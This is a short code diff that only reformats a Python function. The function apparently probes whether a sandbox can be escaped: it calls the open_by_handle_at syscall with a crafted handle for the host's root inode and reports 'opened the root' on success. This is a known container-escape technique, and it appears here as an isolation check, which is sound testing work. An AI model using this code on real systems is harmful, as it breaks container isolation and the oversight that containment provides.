@@ -9,5 +9,7 @@ import ctypes
 
 
 def run(world):
-    handle = ctypes.create_string_buffer((8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 64)
+    handle = ctypes.create_string_buffer(
+        (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little"), 64
+    )
     return ["opened the root"] if ctypes.CDLL(None).syscall(304, 3, handle, 0) >= 0 else []
